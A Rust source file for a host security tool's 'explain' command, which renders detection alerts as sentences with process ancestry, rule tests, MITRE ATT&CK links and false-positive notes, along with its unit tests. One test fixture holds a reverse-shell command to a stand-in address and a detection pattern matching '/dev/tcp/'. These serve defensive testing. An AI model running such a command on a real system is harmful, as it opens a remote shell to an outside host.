//! `quantumctl security explain`: one alert in sentences: what was seen, by which tests of the rule, who is behind it,
//! and what the rule's author says of it.

use jiff::tz::TimeZone;
use quantumos_detect::Rule;
use serde::Serialize;

use super::{model::Alert, render::fields};
use crate::text::{
    escape::escape,
    fit::{Columns, paragraph},
    style::Style,
    time::local,
};

/// The class of alerts about the daemon itself.
const TAMPERING: &str = "tampering";

/// What is said of alerts that the daemon raises itself, without a rule's file.
const BUILT_IN: [(&str, &str); 2] = [
    (
        "0f6f2c55-6d0f-4f0c-9f0e-6a3f5f6f7c21",
        "Something other than the daemon changed what it has in the kernel, which takes the rights of root. \
         Events may go unseen until the daemon is started anew: systemctl restart security-ai.",
    ),
    (
        "5c0e3f0a-9d5e-4b51-8f3c-1f9d0b7c6e42",
        "The daemon was killed, crashed, or was ended by the kernel for want of memory, and was then started \
         again. What happened in between was not seen. When and how it ended: journalctl -u security-ai.",
    ),
];

/// An alert with what its rule says.
#[derive(Debug, Serialize)]
pub struct Explained {
    /// The alert.
    #[serde(flatten)]
    pub alert: Alert,
    /// The rule's description; empty where the rule isn't on this host.
    pub description: String,
    /// What else may cause it, as the rule's author says.
    pub false_positives: Vec<String>,
}

impl Explained {
    /// The alert, with what its rule says if that is among these.
    pub fn new(alert: Alert, rules: &[Rule]) -> Self {
        let rule = rules.iter().find(|rule| rule.id == alert.rule_id);
        let built_in = BUILT_IN.iter().find(|(id, _)| *id == alert.rule_id);
        Self {
            description: match (rule, built_in) {
                (Some(rule), _) => rule.description.clone(),
                (None, Some((_, description))) => (*description).into(),
                (None, None) => String::new(),
            },
            false_positives: rule
                .map(|rule| rule.false_positives.clone())
                .unwrap_or_default(),
            alert,
        }
    }
}

/// As text; on a terminal, broken at words.
pub fn render(explained: &Explained, style: Style, zone: &TimeZone, columns: Columns) -> String {
    let alert = &explained.alert;
    let mut text = paragraph(
        &format!(
            "{}  {}",
            style.severity(&alert.level, &escape(&alert.level)),
            style.bold(&escape(&alert.title))
        ),
        columns,
        4,
    );
    for block in paragraphs(&explained.description) {
        text.push('\n');
        text.push_str(&paragraph(&escape(&block), columns, 0));
    }
    let times = match alert.count {
        0 | 1 => String::new(),
        count => format!(", {count} times, the last"),
    };
    let unit = match alert.unit.as_str() {
        "" => String::new(),
        unit => format!(" in {unit}"),
    };
    // The model speaks of a window of time, not of a process; of tampering nobody knows who did it.
    let who = match alert.executable.as_str() {
        "" => String::new(),
        _ if alert.class == TAMPERING => format!(" by the daemon itself ({})", alert.pid),
        executable => format!(
            ": {executable} ({}) ran as {} (uid {})",
            alert.pid, alert.user, alert.uid
        ),
    };
    let seen = format!("Seen{times} at {}{who}{unit}.", local(alert.time, zone));
    text.push('\n');
    text.push_str(&paragraph(&escape(&seen), columns, 0));
    let ran = !alert.executable.is_empty() || !alert.command_line.is_empty();
    if ran && alert.class != TAMPERING {
        text.push_str(&style.bold("\nWhat ran\n"));
        text.push_str(&family(alert, columns));
    }
    if !alert.explanation.is_empty() {
        text.push_str(&style.bold("\nWhy\n"));
        for test in alert.explanation.split("; ") {
            text.push_str(&item(test, columns));
        }
    }
    if !alert.fields.is_empty() {
        text.push_str(&style.bold("\nThe event\n"));
        text.push_str(&fields(&alert.fields, columns));
    }
    let techniques: Vec<_> = alert.tags.iter().filter_map(|tag| technique(tag)).collect();
    if !techniques.is_empty() {
        text.push_str(&style.bold("\nMITRE ATT&CK\n"));
        for (id, page) in techniques {
            text.push_str(&format!(
                "  {id}  https://attack.mitre.org/techniques/{page}/\n"
            ));
        }
    }
    if !explained.false_positives.is_empty() {
        text.push_str(&style.bold("\nWhat else causes it\n"));
        for cause in &explained.false_positives {
            text.push_str(&item(cause, columns));
        }
    }
    text
}

/// The paragraphs of a text that its author broke into lines: these are joined, but for those of a list.
fn paragraphs(text: &str) -> Vec<String> {
    let mut blocks: Vec<String> = Vec::new();
    let mut goes_on = false;
    for line in text.lines().map(str::trim) {
        let listed = line.starts_with(['-', '*', '\u{2022}']);
        match blocks.last_mut() {
            Some(block) if goes_on && !line.is_empty() && !listed => {
                block.push(' ');
                block.push_str(line);
            }
            _ if line.is_empty() => {}
            _ => blocks.push(line.to_owned()),
        }
        goes_on = !line.is_empty();
    }
    blocks
}

/// An item of a list.
fn item(text: &str, columns: Columns) -> String {
    paragraph(&format!("  {}", escape(text)), columns, 4)
}

/// The ancestors, the oldest first, and the process below them.
fn family(alert: &Alert, columns: Columns) -> String {
    let ancestors = alert.ancestors.iter().rev();
    let mut members: Vec<String> = ancestors
        .map(|(pid, comm, executable)| format!("{}[{pid}] {}", escape(comm), escape(executable)))
        .collect();
    members.push(format!(
        "{}[{}] {}",
        escape(&alert.executable),
        alert.pid,
        escape(&alert.command_line)
    ));
    let members = members.iter().enumerate();
    members
        .map(|(depth, member)| {
            let blanks = 2 * (depth + 1).min(12);
            let line = format!("{}{}", " ".repeat(blanks), member);
            // Deeper than the members below, which begin where their parent ends.
            paragraph(&line, columns, blanks + 4)
        })
        .collect()
}

/// A technique's id and its page: `attack.t1059.004` is T1059.004 at T1059/004.
fn technique(tag: &str) -> Option<(String, String)> {
    let id = tag.strip_prefix("attack.t")?;
    let digits = |c: char| c.is_ascii_digit() || c == '.';
    let sound = id.starts_with(|c: char| c.is_ascii_digit()) && id.chars().all(digits);
    sound.then(|| (format!("T{id}"), format!("T{}", id.replace('.', "/"))))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::security::model::tests::alert;

    #[test]
    fn an_alert_in_sentences() {
        let explained = Explained {
            alert: alert(),
            description: "A shell that talks to the network.".into(),
            false_positives: vec!["Administrators\x1b".into()],
        };
        assert_eq!(
            render(&explained, Style::PLAIN, &TimeZone::UTC, None),
            "\
high  Interactive shell from a service

A shell that talks to the network.

Seen, 3 times, the last at 2025-11-21 12:00:00: /usr/bin/bash (4242) ran as www-data (uid 33) in nginx.service.

What ran
  nginx[100] /usr/sbin/nginx
    /usr/bin/bash[4242] bash -i >& /dev/tcp/192.0.2.1/4444

Why
  selection: CommandLine contains /dev/tcp/

The event
  Image: /usr/bin/bash

MITRE ATT&CK
  T1059.004  https://attack.mitre.org/techniques/T1059/004/

What else causes it
  Administrators\\x1b
"
        );
    }

    #[test]
    fn lines_of_a_paragraph_are_joined() {
        for (text, wanted) in [
            ("one\n", &["one"][..]),
            (
                "because it is\nwritable by all\n",
                &["because it is writable by all"],
            ),
            ("a\nb\n\n  c\nd", &["a b", "c d"]),
            (
                "Reasons:\n- one\n  more\n- two",
                &["Reasons:", "- one more", "- two"],
            ),
            ("\n \n", &[]),
        ] {
            assert_eq!(paragraphs(text), wanted, "{text:?}");
        }
    }

    #[test]
    fn alerts_about_the_daemon_itself_name_no_culprit_and_say_what_to_do() {
        for (rule, advice) in [
            (BUILT_IN[0].0, "systemctl restart security-ai"),
            (BUILT_IN[1].0, "journalctl -u security-ai"),
        ] {
            let mut own = alert();
            own.rule_id = rule.into();
            own.class = TAMPERING.into();
            let explained = Explained::new(own, &[]);
            let text = render(&explained, Style::PLAIN, &TimeZone::UTC, None);
            assert!(text.contains(advice), "{text}");
            assert!(text.contains("by the daemon itself (4242)"), "{text}");
            assert!(
                !text.contains("What ran") && !text.contains("ran as"),
                "{text}"
            );
        }
    }

    #[test]
    fn a_rule_that_is_not_here_leaves_the_alert_alone() {
        let explained = Explained::new(alert(), &[]);
        assert!(explained.description.is_empty());
        let mut window = explained.alert.clone();
        (window.executable, window.command_line) = Default::default();
        let window = Explained::new(window, &[]);
        let text = render(&window, Style::PLAIN, &TimeZone::UTC, None);
        assert!(
            text.contains("12:00:00 in nginx.service.\n\nWhy\n"),
            "{text}"
        );
        assert!(!render(&explained, Style::PLAIN, &TimeZone::UTC, None).contains("What else"));
    }
}
